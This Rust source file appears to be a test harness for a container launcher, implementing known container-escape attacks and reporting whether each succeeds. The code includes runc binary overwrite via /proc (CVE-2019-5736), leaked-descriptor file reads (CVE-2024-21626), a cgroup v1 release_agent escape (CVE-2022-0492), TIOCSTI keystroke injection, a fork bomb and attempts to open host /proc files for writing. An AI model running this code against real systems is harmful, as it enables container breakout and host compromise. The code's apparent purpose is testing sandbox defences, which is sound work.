//! What a hostile container does to get out, and what a careless launcher does to let it.
//!
//! ```text
//! attack hunt NAMES SECONDS    opens the program of each process here whose program's path has one of these words in it
//!                              (NAME,NAME), or has none, being mounted nowhere; and overwrites it once it runs no more
//!                              (CVE-2019-5736)
//! attack leaks FILE            reads FILE relative to each descriptor above 2, and to the working directory (CVE-2024-21626)
//! attack sysctl                opens what is the host's below /proc, to write
//! attack push TEXT             puts TEXT into the input of the terminal that is standard input (TIOCSTI)
//! attack lock                  locks the file that is standard input (flock(2))
//! attack lease                 takes a lease on it: who opens it to write waits (fcntl(2), F_SETLEASE)
//! attack bomb COUNT            starts so many children that stay
//! attack unshare               makes a user namespace
//! attack release-agent OPTIONS PROGRAM
//!                              mounts a hierarchy of cgroups of v1, and lets the kernel start its release agent
//!                              (CVE-2022-0492)
//! attack enter ROOT [at DESCRIPTOR] COMMAND...
//!                              becomes a command with this root, and keeps all that it has
//! ```
//! What came of it is printed, a line for each thing; any other word sleeps a moment.

use std::collections::HashSet;
use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Read as _, Write as _};
use std::os::fd::{AsRawFd as _, BorrowedFd};
use std::os::unix::fs::MetadataExt as _;
use std::os::unix::process::CommandExt as _;
use std::process::{Command, ExitCode};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use rustix::fs::{FlockOperation, Mode, OFlags, flock, openat};
use rustix::mount::{MountFlags, UnmountFlags, mount, unmount};
use rustix::thread::{UnshareFlags, unshare_unsafe};

/// What an overwritten program is.
const PAYLOAD: &[u8] = b"overwritten\n";

fn main() -> ExitCode {
    let words: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    match act(&words) {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            println!("error: {error:#}");
            ExitCode::FAILURE
        }
    }
}

fn act(words: &[&str]) -> Result<()> {
    match words {
        ["hunt", names, seconds] => hunt(names, Duration::from_secs(seconds.parse()?)),
        ["leaks", file] => leaks(file),
        ["sysctl"] => sysctl(),
        ["push", text] => push(text),
        ["lock"] => {
            let exclusive = FlockOperation::NonBlockingLockExclusive;
            told(
                "lock",
                flock(io::stdin(), exclusive).map_err(io::Error::from),
            );
            Ok(())
        }
        ["lease"] => {
            // SAFETY: the call takes no pointer.
            let leased = unsafe { libc::fcntl(0, libc::F_SETLEASE, libc::F_RDLCK) };
            told(
                "lease",
                if leased < 0 {
                    Err(io::Error::last_os_error())
                } else {
                    Ok(())
                },
            );
            Ok(())
        }
        ["bomb", count] => bomb(count.parse()?),
        ["unshare"] => {
            told("unshare", own_user());
            Ok(())
        }
        ["release-agent", hierarchy, program] => release_agent(hierarchy, program),
        ["enter", root, "at", descriptor, command, rest @ ..] => {
            // SAFETY: it is open as long as this process, or the call fails.
            let directory = unsafe { BorrowedFd::borrow_raw(descriptor.parse()?) };
            rustix::process::chroot(*root)?;
            rustix::process::fchdir(directory)?;
            Err(Command::new(command).args(rest).exec()).context("exec")
        }
        ["enter", root, command, rest @ ..] => {
            rustix::process::chroot(*root)?;
            std::env::set_current_dir("/")?;
            Err(Command::new(command).args(rest).exec()).context("exec")
        }
        _ => {
            thread::sleep(Duration::from_millis(100));
            Ok(())
        }
    }
}

/// `done WHAT` or `refused WHAT ERROR`.
fn told<T>(what: &str, result: io::Result<T>) -> Option<T> {
    match result {
        Ok(value) => {
            println!("done {what}");
            Some(value)
        }
        Err(error) => {
            println!("refused {what}: {error}");
            None
        }
    }
}

fn hunt(names: &str, time: Duration) -> Result<()> {
    let end = Instant::now() + time;
    let own = std::process::id().to_string();
    let mut seen = HashSet::new();
    println!("hunting");
    while Instant::now() < end {
        for entry in fs::read_dir("/proc")?.flatten() {
            let pid = entry.file_name().to_string_lossy().into_owned();
            if pid == own || !pid.bytes().all(|byte| byte.is_ascii_digit()) {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            let is_wanted = |link: &str| {
                let link = fs::read_link(link).ok()?.to_string_lossy().into_owned();
                let has = names.split(',').any(|name| link.contains(name));
                (link == "/" || has).then_some(link)
            };
            if is_wanted(&exe).is_none() {
                continue;
            }
            let Ok(file) = File::open(&exe) else {
                continue;
            };
            // Meanwhile it may have executed a program of the container's own.
            let Some(link) = is_wanted(&format!("/proc/self/fd/{}", file.as_raw_fd())) else {
                continue;
            };
            let metadata = file.metadata()?;
            if seen.insert((metadata.dev(), metadata.ino())) {
                println!("caught {link}");
                if told("overwriting", overwrite(&file, end)).is_some() {
                    return Ok(());
                }
            }
        }
    }
    println!("over");
    Ok(())
}

/// A program that runs cannot be written to (ETXTBSY).
fn overwrite(file: &File, end: Instant) -> io::Result<()> {
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    loop {
        let opened = OpenOptions::new().write(true).truncate(true).open(&path);
        match opened.and_then(|mut file| file.write_all(PAYLOAD)) {
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < end => {}
            other => return other,
        }
    }
}

fn leaks(name: &str) -> Result<()> {
    for number in 3..1024 {
        // SAFETY: the calls fail where it is not open; nothing here opens or closes meanwhile.
        let descriptor = unsafe { BorrowedFd::borrow_raw(number) };
        if rustix::io::fcntl_getfd(descriptor).is_err() {
            continue;
        }
        println!("open {number}");
        if let Ok(file) = openat(descriptor, name, OFlags::RDONLY, Mode::empty()) {
            let mut text = String::new();
            File::from(file).read_to_string(&mut text)?;
            println!("stolen {}", text.trim());
        }
    }
    if let Ok(text) = fs::read_to_string(name) {
        println!("stolen {}", text.trim());
    }
    println!("looked");
    Ok(())
}

/// Files that change the whole host. None is written to.
fn sysctl() -> Result<()> {
    for path in [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sysrq-trigger",
        "/proc/irq/default_smp_affinity",
    ] {
        told(path, OpenOptions::new().write(true).open(path));
    }
    let mut text = String::new();
    let masked = File::open("/proc/keys").and_then(|file| file.take(64).read_to_string(&mut text));
    println!("masked {:?}", masked.map(|_| text.trim().to_owned()));
    let proc = rustix::fs::statfs("/proc").map(|found| found.f_type);
    println!("proc {proc:x?}");
    println!("looked");
    Ok(())
}

fn push(text: &str) -> Result<()> {
    for byte in text.bytes() {
        // SAFETY: the kernel reads one byte, which outlives the call.
        let result = unsafe { libc::ioctl(0, libc::TIOCSTI, &raw const byte) };
        if result < 0 {
            told("push", Err::<(), _>(io::Error::last_os_error()));
            return Ok(());
        }
    }
    println!("done push");
    Ok(())
}

fn bomb(count: u32) -> Result<()> {
    let mut children = Vec::new();
    let mut failed = None;
    for _ in 0..count {
        // SAFETY: this process has one thread, and the child only waits for its end.
        match unsafe { libc::fork() } {
            0 => loop {
                thread::sleep(Duration::from_secs(1000));
            },
            pid if pid > 0 => children.push(pid),
            _ => {
                failed = Some(io::Error::last_os_error());
                break;
            }
        }
    }
    println!("started {}", children.len());
    if let Some(error) = failed {
        println!("refused fork: {}", error.raw_os_error().unwrap_or_default());
    }
    for pid in children {
        // SAFETY: the calls have no pointers but one that may be null; the child is this process's own.
        unsafe {
            libc::kill(pid, libc::SIGKILL);
            libc::waitpid(pid, std::ptr::null_mut(), 0);
        }
    }
    Ok(())
}

fn own_user() -> io::Result<()> {
    // SAFETY: this process has one thread.
    Ok(unsafe {
        unshare_unsafe(UnshareFlags::NEWUSER | UnshareFlags::NEWNS | UnshareFlags::NEWCGROUP)
    }?)
}

/// The kernel starts the release agent on the host, as root, when a cgroup is empty.
fn release_agent(hierarchy: &str, program: &str) -> Result<()> {
    let directory = std::env::temp_dir().join(format!("attack-{}", std::process::id()));
    fs::create_dir_all(&directory)?;
    let options = CString::new(hierarchy)?;
    let mounted = || {
        let options = Some(options.as_c_str());
        mount("none", &directory, "cgroup", MountFlags::empty(), options).map_err(io::Error::from)
    };
    let mut there = told("mount", mounted()).is_some();
    if !there && told("unshare", own_user()).is_some() {
        there = told("mount among own namespaces", mounted()).is_some();
    }
    if there {
        told(
            "release_agent",
            fs::write(directory.join("release_agent"), program),
        );
        let empty = directory.join("empty");
        told("cgroup", fs::create_dir(&empty));
        told("notify", fs::write(empty.join("notify_on_release"), "1"));
        let mut member = Command::new("/proc/self/exe").arg("member").spawn()?;
        told(
            "member",
            fs::write(empty.join("cgroup.procs"), member.id().to_string()),
        );
        member.wait()?;
        thread::sleep(Duration::from_millis(100));
        let _ = fs::remove_dir(&empty);
        unmount(&directory, UnmountFlags::DETACH)?;
        // A hierarchy whose last cgroup was still on its way out stays; the next to unmount it ends it.
        for _ in 0..3 {
            if !stays(hierarchy)? {
                break;
            }
            mounted()?;
            unmount(&directory, UnmountFlags::DETACH)?;
        }
    }
    let _ = fs::remove_dir(&directory);
    println!("looked");
    Ok(())
}

/// Whether a hierarchy with a name is there for a while yet.
fn stays(hierarchy: &str) -> Result<bool> {
    let name = hierarchy
        .split(',')
        .find(|option| option.starts_with("name="));
    let Some(name) = name.map(|name| format!(":{name}:")) else {
        return Ok(false);
    };
    for _ in 0..50 {
        if !fs::read_to_string("/proc/self/cgroup")?.contains(&name) {
            return Ok(false);
        }
        thread::sleep(Duration::from_millis(10));
    }
    Ok(true)
}
